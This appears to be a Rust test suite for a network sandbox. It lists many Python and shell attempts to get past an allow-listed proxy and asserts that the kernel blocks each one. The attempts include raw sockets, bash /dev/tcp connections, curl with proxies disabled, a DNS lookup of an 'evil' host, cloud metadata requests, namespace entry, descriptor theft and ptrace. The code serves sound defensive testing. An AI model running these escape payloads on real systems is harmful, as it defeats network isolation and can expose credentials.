//! Ways around the proxy: every packet that a command can think of, and everything that is not its own.

use crate::common::Actor;
use crate::inside::{Attempt, Inside, Nothing, TheKernel, row};
use crate::lab::{Lab, in_the_lab, lab_with};

in_the_lab! {
    nothing_leaves_but_through_the_proxy ["python3", "curl"];
    other_families_lead_nowhere ["python3"];
    unix_sockets_of_the_machine_are_out_of_reach_where_all_are_granted ["python3"];
    other_namespaces_are_out_of_reach ["python3"];
    with_no_network_at_all_it_is_the_same ["python3", "curl"];
    the_proxys_port_cannot_be_taken ["python3"];
}

const STRAIGHT: &[Attempt] = &[
    row("through the proxy, it works", Nothing, "shell('curl -sS -4 https://www.example.org/')"),
    row("TCP to a public address", TheKernel, "tcp('93.184.216.66', 80)"),
    row("TCP to the address of the listed host", TheKernel, "tcp('93.184.216.34', 443)"),
    row("TCP over IPv6", TheKernel, "tcp('2606:2800:220:1::34', 80)"),
    row("TCP to an IPv4 address as IPv6", TheKernel, "tcp('::ffff:93.184.216.66', 80)"),
    row("TCP to a private address", TheKernel, "tcp('10.0.0.80', 80)"),
    row("TCP to the metadata service", TheKernel, "tcp('169.254.169.254', 80)"),
    row("TCP to the machine's own address", TheKernel, "tcp('93.184.215.2', 8080)"),
    row("TCP to the machine's IPv6 address", TheKernel, "tcp('2606:2800:220:2::2', 8080)"),
    row("TCP to the gateway", TheKernel, "tcp('93.184.215.1', 80)"),
    row("the machine's loopback", TheKernel, "tcp('127.0.0.1', 8080)"),
    row("the machine's loopback of six", TheKernel, "tcp('::1', 8080)"),
    row("the unspecified address", TheKernel, "tcp('0.0.0.0', 8080)"),
    row("another proxy on the machine's loopback", TheKernel, "tcp('127.0.0.1', 3128)"),
    row("the proxy's port on the machine's address", TheKernel, "tcp('93.184.215.2', way[1])"),
    row("the proxy's port elsewhere", TheKernel, "tcp('10.0.0.1', way[1])"),
    row("a name, by the resolver", TheKernel, "socket.getaddrinfo('secret.evil.example.net', 80)"),
    row("a question straight to the DNS, over UDP", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3org\\0\\0\\1\\0\\1', ('93.184.216.53', 53))
s.recv(512)"),
    row("a question straight to the DNS, over TCP", TheKernel, "tcp('93.184.216.53', 53)"),
    row("a question to the DNS over IPv6", TheKernel, "
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3org\\0\\0\\1\\0\\1', ('2606:2800:220:1::53', 53))
s.recv(512)"),
    row("DNS over HTTPS, straight", TheKernel, "shell('curl -sS --noproxy \"*\" -m 3 https://93.184.216.66/dns-query')"),
    row("UDP to a public address", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))"),
    row("UDP to everybody", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(b'x', ('255.255.255.255', 67))"),
    row("UDP to a group", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('224.0.0.251', 5353))"),
    row("UDP to a group of six", TheKernel, "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('ff02::fb', 5353))"),
    row("QUIC's port", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\xc0' * 1200, ('93.184.216.34', 443))"),
    row("a ping, raw", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('93.184.216.66', 0))"),
    row("a ping, as anybody may", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('93.184.216.66', 0))"),
    row("a ping of six", TheKernel, "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).sendto(b'\\x80\\0\\0\\0\\0\\0\\0\\0', ('2606:2800:220:1::66', 0))"),
    row("raw packets with a head of their own", TheKernel, "
head = bytes.fromhex('4500001c00010000401100005db8d7025db8d842') + struct.pack('!HHHH', 4444, 53, 8, 0)
socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(head, ('93.184.216.66', 0))"),
    row("raw TCP", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_RAW, 6).sendto(bytes(20), ('93.184.216.66', 0))"),
    row("TCP that sends with the first packet", TheKernel, "socket.socket().sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', 0x20000000, ('93.184.216.66', 80))"),
    row("multipath TCP", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(1)
s.connect(('93.184.216.66', 80)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); s.recv(100)"),
    row("SCTP", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(1)
s.connect(('93.184.216.66', 80))"),
    row("DCCP", TheKernel, "socket.socket(socket.AF_INET, 6, 33).connect(('93.184.216.66', 80))"),
    row("UDP-Lite", TheKernel, "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b'x', ('93.184.216.66', 53))"),
    row("a socket bound to the machine's interface", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, 25, b'wan\\0')
s.sendto(b'x', ('93.184.216.66', 53))"),
    row("an address that is not its own", TheKernel, "
s = socket.socket(); s.settimeout(1); s.setsockopt(socket.IPPROTO_IP, 15, 1)
s.bind(('93.184.215.2', 0)); s.connect(('93.184.216.66', 80))"),
    row("a transparent socket", TheKernel, "
s = socket.socket(); s.settimeout(1); s.setsockopt(socket.IPPROTO_IP, 19, 1)
s.bind(('93.184.215.2', 0)); s.connect(('93.184.216.66', 80))"),
    row("a route by source", TheKernel, "
s = socket.socket(); s.settimeout(1); s.setsockopt(socket.IPPROTO_IP, 4, bytes.fromhex('01830b045db8d7015db8d842'))
s.connect(('93.184.216.66', 80))"),
    row("every proxy variable removed", TheKernel, "shell('env -i PATH=$PATH curl -sS -m 3 http://www.example.org/')"),
    row("every proxy variable removed, and the address given", TheKernel, "shell('env -i PATH=$PATH curl -sS -m 3 --resolve www.example.org:80:93.184.216.34 http://www.example.org/')"),
    row("NO_PROXY for everything", TheKernel, "shell('NO_PROXY=* no_proxy=* curl -sS -m 3 http://93.184.216.66/')"),
    row("curl told of no proxy", TheKernel, "shell('curl --noproxy \"*\" -sS -m 3 http://93.184.216.34/')"),
    row("curl told of an interface", TheKernel, "shell('curl --noproxy \"*\" --interface wan -sS -m 3 http://93.184.216.34/')"),
    row("curl told of another proxy", TheKernel, "shell('curl --proxy http://93.184.216.66:8080 -sS -m 3 http://www.example.org/')"),
    row("curl told of a proxy of the machine's", TheKernel, "shell('curl --proxy http://127.0.0.1:3128 -sS -m 3 http://www.example.org/')"),
    row("what bash knows of TCP", TheKernel, "shell('bash -c \"exec 3<>/dev/tcp/93.184.216.66/80; printf \\\"GET / HTTP/1.0\\\\r\\\\n\\\\r\\\\n\\\" >&3; timeout 2 cat <&3\"')"),
    row("what bash knows of UDP", TheKernel, "shell('bash -c \"echo x >/dev/udp/93.184.216.66/53\"')"),
    row("between its own processes, it works", Nothing, "
own = socket.create_server(('127.0.0.1', 0))
with socket.create_connection(own.getsockname()) as one:
    other, _ = own.accept(); other.sendall(b'reached 93.184.216.34 (as it were)')
    told = one.recv(100)
told"),
];

fn nothing_leaves_but_through_the_proxy(lab: &Lab) {
    Inside::new(lab, &["www.example.org"]).tries(STRAIGHT);
}

fn with_no_network_at_all_it_is_the_same(lab: &Lab) {
    let tables = [STRAIGHT, FAMILIES, NAMESPACES].concat();
    let kernel: Vec<Attempt> = tables.into_iter().filter(|row| row.meets == TheKernel).collect();
    let mut inside = Inside::with(lab, "false", &[]);
    let wrong = inside.wrong(&kernel);
    inside.end();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// What this kernel has not, or what needs more than being root on the machine.
const NOT_SEEN_ANYWAY: &[&str] = &["the proxy's port on the machine's address", "SCTP", "DCCP"];

#[test]
fn each_way_around_would_be_seen_with_nothing_confined() {
    let Some(lab) = lab_with(Actor::Root, &["python3", "curl"]) else {
        return;
    };
    let mut inside = Inside::bare(&lab);
    // Most of them are answered by nobody.
    inside.does("PATIENCE = 3.0").unwrap();
    let mut unseen = Vec::new();
    for attempt in STRAIGHT.iter().filter(|attempt| attempt.meets == TheKernel) {
        lab.forget();
        let told = inside.does(attempt.does);
        let seen = lab.seen();
        if seen.wire.is_empty() && seen.machine.is_empty() && !NOT_SEEN_ANYWAY.contains(&attempt.name) {
            unseen.push(format!("{}: {told:?}", attempt.name));
        }
    }
    assert!(unseen.is_empty(), "{unseen:#?}");
}

const FAMILIES: &[Attempt] = &[
    row("frames", TheKernel, "
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('lo', 0)); s.settimeout(0.3)
s.send(b'\\xff' * 12 + b'\\x08\\0' + bytes(46)); 'sent'"),
    row("frames that the kernel heads", TheKernel, "socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)).sendto(bytes(40), ('wan', 0x800, 0, 0, b'\\xff' * 6))"),
    row("an address of its own, by netlink", TheKernel, "
s = socket.socket(16, socket.SOCK_RAW, 0)
body = struct.pack('BBBBI', 2, 24, 0, 0, 1) + struct.pack('HH4s', 8, 2, bytes([93, 184, 215, 2]))
s.send(struct.pack('IHHII', 16 + len(body), 20, 0x605, 1, 0) + body)
code = struct.unpack('i', s.recv(1000)[16:20])[0]
tcp('93.184.216.66', 80) if code == 0 else 'error %d' % code"),
    row("a route, by netlink", TheKernel, "
s = socket.socket(16, socket.SOCK_RAW, 0)
body = struct.pack('BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack('HHI', 8, 4, 1)
s.send(struct.pack('IHHII', 16 + len(body), 24, 0x605, 1, 0) + body)
code = struct.unpack('i', s.recv(1000)[16:20])[0]
tcp('93.184.216.66', 80) if code == 0 else 'error %d' % code"),
    row("a pair of interfaces into the machine, by ip", TheKernel, "shell('ip link add a type veth peer name b netns 1 && ip addr add 10.9.9.1/24 dev a; ip route add default dev a'); tcp('93.184.216.66', 80)"),
    row("an address, by ioctl", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fcntl.ioctl(s, 0x8916, struct.pack('16sHH4s8x', b'lo:1', 2, 0, bytes([93, 184, 215, 2])))
tcp('93.184.216.66', 80)"),
    row("a route, by ioctl", TheKernel, "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = lambda last: struct.pack('HH4s8x', 2, 0, bytes([0, 0, 0, last]))
name = ctypes.create_string_buffer(b'lo')
fcntl.ioctl(s, 0x890b, struct.pack('Q16s16s16sHhQQ8xQQQH6x', 0, address(0), address(0), address(0), 1, 0, 0, 0, ctypes.addressof(name), 0, 0, 0))
tcp('93.184.216.66', 80)"),
    row("the machine that hosts this one", TheKernel, "s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 80))"),
    row("the machine itself, as a neighbour", TheKernel, "s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(1); s.connect((1, 80))"),
    row("an abstract Unix socket of the machine's", TheKernel, "s = socket.socket(socket.AF_UNIX); s.connect('\\0lab'); s.recv(100)"),
    row("a Unix socket of the machine's, by its path", TheKernel, "s = socket.socket(socket.AF_UNIX); s.connect(os.path.abspath(FOLDER + '/../../lab/socket')); s.recv(100)"),
    row("a Unix socket of the machine's, through /proc/1/root", TheKernel, "s = socket.socket(socket.AF_UNIX); s.connect('/proc/1/root' + os.path.abspath(FOLDER + '/../../lab/socket')); s.recv(100)"),
    row("a Unix datagram to an abstract name", TheKernel, "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '\\0lab')"),
    row("a socket for packets past the stack", TheKernel, "socket.socket(44, socket.SOCK_RAW, 0)"),
    row("every family that there is", TheKernel, "
made = []
for family in range(3, 47):
    for kind in (1, 2, 3, 5):
        for protocol in (0, 1, 2):
            try: made.append((family, kind, protocol, socket.socket(family, kind, protocol).fileno()))
            except OSError: pass
reaches = [one[:3] for one in made if one[0] not in (10, 16)]
assert not reaches, reaches
'none'"),
    row("the ring for system calls", TheKernel, "call(425, 8, ctypes.create_string_buffer(120))"),
    row("programs for the kernel", TheKernel, "call(321, 0, ctypes.create_string_buffer(128), 128)"),
    row("a tunnel device", TheKernel, "
with open('/dev/net/tun', 'r+b', buffering=0) as tun: fcntl.ioctl(tun, 0x400454ca, struct.pack('16sH22x', b'tun0', 0x1001))"),
    row("the kernel's own settings", TheKernel, "open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')"),
    row("the settings of its namespace", TheKernel, "open('/proc/sys/net/ipv4/ping_group_range', 'w').write('0 2147483647')"),
    row("a packet filter", TheKernel, "shell('nft add table inet x && echo reached a filter')"),
];

fn other_families_lead_nowhere(lab: &Lab) {
    Inside::new(lab, &["www.example.org"]).tries(FAMILIES);
}

fn unix_sockets_of_the_machine_are_out_of_reach_where_all_are_granted(lab: &Lab) {
    let network = "{allow: [www.example.org]}\n  unix_sockets: all";
    let mut inside = Inside::with(lab, network, &[]);
    let own = "one, two = socket.socketpair(); one.send(b'reached'); two.recv(10)";
    assert!(inside.does(own).unwrap().contains("reached"));
    let wrong: Vec<String> = [
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0lab'); s.recv(100)",
        "s = socket.socket(socket.AF_UNIX); s.connect(os.path.abspath(FOLDER + '/../../lab/socket')); s.recv(100)",
    ]
    .into_iter()
    .filter_map(|python| inside.does(python).ok())
    .collect();
    inside.end();
    assert!(wrong.is_empty(), "{wrong:?}");
    assert!(lab.seen().machine.is_empty());
}

const NAMESPACES: &[Attempt] = &[
    row(
        "the namespace of process 1",
        TheKernel,
        "
with open('/proc/1/ns/net') as space: call(308, space.fileno(), 0)
tcp('93.184.216.66', 80)",
    ),
    row(
        "the namespaces of every process that shows",
        TheKernel,
        "
for space in glob.glob('/proc/[0-9]*/ns/net') + glob.glob('/proc/[0-9]*/task/*/ns/net') + ['/proc/thread-self/ns/net']:
    try:
        with open(space) as file: call(308, file.fileno(), 0)
    except OSError: pass
tcp('93.184.216.66', 80)",
    ),
    row(
        "the namespaces of a process, by its descriptor",
        TheKernel,
        "
for pid in [1, os.getppid()]:
    try: call(308, call(434, pid, 0), 0x40000000)
    except OSError: pass
tcp('93.184.216.66', 80)",
    ),
    row(
        "a namespace of users",
        TheKernel,
        "call(272, 0x10000000 | 0x40000000); tcp('93.184.216.66', 80)",
    ),
    row(
        "a network namespace",
        TheKernel,
        "call(272, 0x40000000); tcp('93.184.216.66', 80)",
    ),
    row(
        "unshare, the program",
        TheKernel,
        "shell('unshare -Urn ip link; unshare -Urn curl -sS -m 2 --noproxy \"*\" http://93.184.216.66/')",
    ),
    row(
        "nsenter, the program",
        TheKernel,
        "shell('nsenter -t 1 -n curl -sS -m 2 --noproxy \"*\" http://93.184.216.66/')",
    ),
    row(
        "bwrap, the program",
        TheKernel,
        "shell('bwrap --dev-bind / / --share-net curl -sS -m 2 --noproxy \"*\" http://93.184.216.66/')",
    ),
    row(
        "clone into a namespace of users",
        TheKernel,
        "
child = call(56, 0x10000000 | 0x40000000 | signal.SIGCHLD, 0, 0, 0, 0)
if child == 0: os._exit(0)
os.waitpid(child, 0); 'made'",
    ),
    row(
        "descriptors that it was left",
        TheKernel,
        "'reached a descriptor: %r' % left if left else 'none'",
    ),
    row(
        "descriptors of the other processes",
        TheKernel,
        "
got = []
for pid in map(int, filter(str.isdigit, os.listdir('/proc'))):
    if pid == os.getpid(): continue
    try: process = call(434, pid, 0)
    except OSError: continue
    for number in range(64):
        try: got.append((pid, number, call(438, process, number, 0)))
        except OSError: pass
sockets = [one for one in got if os.readlink('/proc/self/fd/%d' % one[2]).startswith('socket:')]
'reached a descriptor: %r' % sockets if sockets else 'none'",
    ),
    row(
        "descriptors of the other processes, through /proc",
        TheKernel,
        "
got = []
for place in glob.glob('/proc/[0-9]*/fd/*'):
    if place.split('/')[2] == str(os.getpid()): continue
    try: got.append(os.readlink(place))
    except OSError: pass
sockets = [one for one in got if one.startswith('socket:')]
'reached a descriptor: %r' % sockets if sockets else 'none'",
    ),
    row(
        "another process, traced",
        TheKernel,
        "
for pid in [1, os.getppid()]:
    if libc.ptrace(16, pid, 0, 0) == 0: print('reached')
    os.kill(pid, 0)
libc.ptrace(16, 1, 0, 0) == 0 and 'reached a process'",
    ),
    row(
        "a mount of another namespace",
        TheKernel,
        "
made = libc.mount(b'/proc/1/ns/net', b'/tmp/x', None, 4096, None)
'reached a mount' if made == 0 else 'error %d' % ctypes.get_errno()",
    ),
    row(
        "the machine's processes, in /proc",
        TheKernel,
        "
shown = [open('/proc/%s/cmdline' % pid, 'rb').read() for pid in os.listdir('/proc') if pid.isdigit()]
assert not any(b'internet.py' in line for line in shown), 'reached a process'
'none'",
    ),
];

fn other_namespaces_are_out_of_reach(lab: &Lab) {
    Inside::new(lab, &["www.example.org"]).tries(NAMESPACES);
}

const PORT: &[Attempt] = &[
    row("bound a second time", TheKernel, "
s = socket.socket(); s.bind(way); s.listen(); 'reached a port'"),
    row("bound a second time, sharing the address", TheKernel, "
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(way); s.listen(); 'reached a port'"),
    row("bound a second time, sharing the port", TheKernel, "
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(way); s.listen(); 'reached a port'"),
    row("listened on beside it, on every address", Nothing, "
beside = []
for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::'), (socket.AF_INET, '127.0.0.2')):
    s = socket.socket(family)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind((address, way[1])); s.listen(); beside.append(s)
    except OSError: pass
shell('curl -sS -4 http://www.example.org/')"),
    row("it still works", Nothing, "shell('curl -sS -4 http://www.example.org/')"),
];

fn the_proxys_port_cannot_be_taken(lab: &Lab) {
    Inside::new(lab, &["www.example.org"]).tries(PORT);
}
